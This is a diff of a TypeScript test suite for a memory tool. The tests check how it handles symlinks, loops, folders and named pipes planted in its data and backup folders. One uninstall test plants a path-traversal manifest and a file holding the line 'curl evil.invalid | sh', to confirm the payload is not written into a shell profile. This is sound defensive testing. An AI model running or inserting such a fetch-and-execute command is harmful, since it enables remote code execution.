@@ -128,8 +128,8 @@ testTogether("links that lead in a circle, or to what a purge means, do not keep
   await box.run(["save", "fact", "--content", PURGED]);
   fs.writeFileSync(join(box.home, "thesis.txt"), CONTENT);
   fs.symlinkSync(".", join(box.data, "circle"));
-  fs.mkdirSync(join(box.data, "logs"), { recursive: true });
-  fs.symlinkSync(join(box.home, "thesis.txt"), join(box.data, "logs", "2026-01-01.jsonl"));
+  fs.mkdirSync(join(box.own, "logs"), { recursive: true });
+  fs.symlinkSync(join(box.home, "thesis.txt"), join(box.own, "logs", "2026-01-01.jsonl"));
   const purge = ["manage", "delete", "--keyword", "RabbitMQ", "--purge", "--include-backups", "--verify"];
   const { data: { confirm_token } } = await box.json(purge);
   await tokenRests();
@@ -146,18 +146,18 @@ test("a restore and an undo bring in nothing that a link in a backup leads to", 
   fs.writeFileSync(join(outside, "facts.jsonl"), `${foreign}\n`);
   // Without a list of its files, as the Python original left them: all that lies there counts.
   box.write("backups/2020-01-01-000000/sessions.jsonl", `${JSON.stringify({ id: "sum-1", topic: "Ours" })}\n`);
-  fs.symlinkSync(outside, join(box.data, "backups/2020-01-01-000000/daily"));
-  fs.symlinkSync(join(outside, "facts.jsonl"), join(box.data, "backups/2020-01-01-000000/facts.jsonl"));
-  fs.symlinkSync(".", join(box.data, "backups/2020-01-01-000000/circle"));
-  fs.symlinkSync(outside, join(box.data, "backups/2020-01-02-000000"));
+  fs.symlinkSync(outside, join(box.own, "backups/2020-01-01-000000/daily"));
+  fs.symlinkSync(join(outside, "facts.jsonl"), join(box.own, "backups/2020-01-01-000000/facts.jsonl"));
+  fs.symlinkSync(".", join(box.own, "backups/2020-01-01-000000/circle"));
+  fs.symlinkSync(outside, join(box.own, "backups/2020-01-02-000000"));
   const restore = (id: string) => box.json(["manage", "restore", "--from-backup", id]);
   assert.equal((await restore("2020-01-01-000000")).data.restored, 1);
   assert.equal((await restore("2020-01-02-000000")).error.code, "BACKUP_NOT_FOUND");
   await box.run(["save", "fact", "--content", "The cache is Redis"]);
   const { data } = await box.json(["manage", "delete", "--keyword", "Redis", "--confirm"]);
-  const listed = fs.readdirSync(join(box.data, data.backup_path, "daily"))[0] ?? "";
-  fs.rmSync(join(box.data, data.backup_path, "daily", listed));
-  fs.symlinkSync(join(outside, "facts.jsonl"), join(box.data, data.backup_path, "daily", listed));
+  const listed = fs.readdirSync(join(box.own, data.backup_path, "daily"))[0] ?? "";
+  fs.rmSync(join(box.own, data.backup_path, "daily", listed));
+  fs.symlinkSync(join(outside, "facts.jsonl"), join(box.own, data.backup_path, "daily", listed));
   const [, id = ""] = data.backup_path.split("/");
   assert.equal((await restore(id)).error.code, "BACKUP_NOT_FOUND");
   assert.equal((await box.json(["manage", "undo"])).error.code, "UNDO_IMPOSSIBLE");
@@ -170,8 +170,6 @@ const PLANTED: readonly string[] = [
   ".cursor/rules",
   ".cursor/hooks.json",
   ".cursor/agents/lingxi-memory.md",
-  ".cursor/skills/memory-data/originals",
-  ".cursor/skills/memory-data/originals/manifest.json",
   ".cursor/skills/memory-data/references",
   ".cursor/skills/memory-data/MEMORY.md",
   ".codex",
@@ -232,8 +230,13 @@ test("uninstall restores no copy of a repository's through its link", async () =
   fs.writeFileSync(profile, "export PATH\n");
   fs.mkdirSync(join(box.project, ".cursor/commands"), { recursive: true });
   fs.symlinkSync(profile, join(box.project, ".cursor/commands/remember.md"));
-  box.write("originals/manifest.json", JSON.stringify([{ path: "../../commands/remember.md", copy: "evil" }]));
-  box.write("originals/evil", "curl evil.invalid | sh\n");
+  const originals = join(box.data, "originals");
+  fs.mkdirSync(originals);
+  fs.writeFileSync(
+    join(originals, "manifest.json"),
+    JSON.stringify([{ path: "../../commands/remember.md", copy: "evil" }]),
+  );
+  fs.writeFileSync(join(originals, "evil"), "curl evil.invalid | sh\n");
   await box.json(["uninstall", "--project-path", box.project]);
   assert.equal(fs.readFileSync(profile, "utf8"), "export PATH\n");
 });
@@ -242,7 +245,7 @@ test("a link that leads to itself is like a missing file: the rest is found, lis
   for (const entry of ["MEMORY.md", "sessions.jsonl", "notes", "spool", "logs", "daily/2026-01-01.jsonl"]) {
     const box = memoryBox();
     await box.run(["save", "fact", "--content", PURGED]);
-    fs.symlinkSync(join(box.data, entry), join(box.data, entry));
+    fs.symlinkSync(box.path(entry), box.path(entry));
     for (const words of [["search", "RabbitMQ"], ["manage", "list"], ["manage", "stats"], ["show"], ["sync"]]) {
       const { code, stderr } = await box.run(words);
       assert.equal(code, 0, `${entry}, ${words.join(" ")}: ${stderr}`);
@@ -255,7 +258,7 @@ test("a folder in the place of a file is like a missing file", async () => {
   for (const entry of ["MEMORY.md", "sessions.jsonl", "facts.jsonl", "daily/2026-01-01.jsonl"]) {
     const box = memoryBox();
     await box.run(["save", "fact", "--content", PURGED]);
-    fs.mkdirSync(join(box.data, entry));
+    fs.mkdirSync(box.path(entry));
     for (const words of [["search", "RabbitMQ"], ["manage", "list"], ["manage", "stats"], ["show"]]) {
       const { code, stderr } = await box.run(words);
       assert.equal(code, 0, `${entry}, ${words.join(" ")}: ${stderr}`);
@@ -273,9 +276,9 @@ test("a pipe in the place of a file holds up nothing", { skip: process.platform 
   for (const entry of entries) {
     const box = memoryBox();
     await box.run(["save", "fact", "--content", PURGED]);
-    fs.mkdirSync(dirname(join(box.data, entry)), { recursive: true });
-    fs.rmSync(join(box.data, entry), { force: true });
-    execFileSync("mkfifo", [join(box.data, entry)]);
+    fs.mkdirSync(dirname(box.path(entry)), { recursive: true });
+    fs.rmSync(box.path(entry), { force: true });
+    execFileSync("mkfifo", [box.path(entry)]);
     const began = Date.now();
     assert.match(JSON.stringify(await cursor(box, "sessionStart", {}, "one")), /RabbitMQ/, entry);
     for (const words of [["search", "RabbitMQ"], ["save", "fact", "--content", "Pipes end"], ["manage", "list"]]) {
